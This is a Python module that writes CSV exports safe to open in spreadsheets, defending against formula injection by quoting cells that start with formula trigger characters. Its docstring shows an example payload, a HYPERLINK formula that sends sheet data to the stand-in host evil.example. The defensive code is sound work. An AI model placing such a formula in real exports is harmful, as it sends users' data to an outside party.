"""CSV for spreadsheets, safe to open: no cell of ours becomes a formula.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with = + - or @ (and
some do so after a leading tab or carriage return), so an organisation named
`=HYPERLINK("http://evil.example/?x="&A1,"查看详情")` would turn an export into a link
that sends the sheet's data away. Following OWASP's advice, such a cell gets a leading
single quote, which spreadsheets show as text and do not evaluate. Every CSV export
goes through `csv_document`, so no export can forget it.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# A plain number (negative amounts in yuan, "-1050.00") is data, not a formula.
_PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def neutralise_formula(cell: object) -> str:
    """The cell's text, quoted if a spreadsheet would evaluate it."""
    text = "" if cell is None else str(cell)
    if text.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_document(rows: Iterable[Sequence[object]]) -> str:
    """Rows as CSV text (CRLF line ends, as RFC 4180 and Excel expect), every cell
    passed through `neutralise_formula`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    for row in rows:
        writer.writerow([neutralise_formula(cell) for cell in row])
    return buffer.getvalue()
